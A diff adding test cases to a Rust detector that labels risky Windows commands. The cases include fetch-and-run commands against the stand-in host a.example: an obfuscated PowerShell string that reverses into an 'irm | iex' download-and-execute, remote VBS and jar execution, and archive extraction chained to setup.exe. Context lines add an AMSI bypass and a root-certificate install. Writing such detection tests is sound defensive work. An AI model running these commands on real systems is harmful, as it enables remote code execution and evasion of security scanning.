@@ -256,6 +256,16 @@ mod tests {
                 "weakens-uac high",
             ),
             ("certutil -addstore -f Root a.cer", "adds-root-certificate medium"),
+            ("using module \\\\a.example\\s\\a", "remote-path high"),
+            ("mmc \\\\a.example\\s\\a.msc", "remote-path high"),
+            ("java -jar \\\\a.example\\s\\a.jar", "remote-path high"),
+            ("wscript //B http://a.example/a.vbs", "download-and-run high"),
+            ("explorer http://a.example/a.exe", "downloads medium"),
+            ("expand \\\\a.example\\s\\a.cab a.exe", "downloads medium"),
+            ("tar -xf \\\\a.example\\s\\a.tar", "downloads medium"),
+            ("tar -xf \\\\a.example\\s\\a.zip & setup.exe", "download-and-run high"),
+            ("node -e \"require('https').get('https://a.example/a')\"", "downloads medium"),
+            ("powershell -c \"-join('xei|a/elpmaxe.a mri'[18..0])|iex\"", "download-and-run high"),
             ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "scan-evasion high"),
         ] {
             assert!(classes(line).contains(&expected.to_owned()), "{line}: {:?}", classes(line));
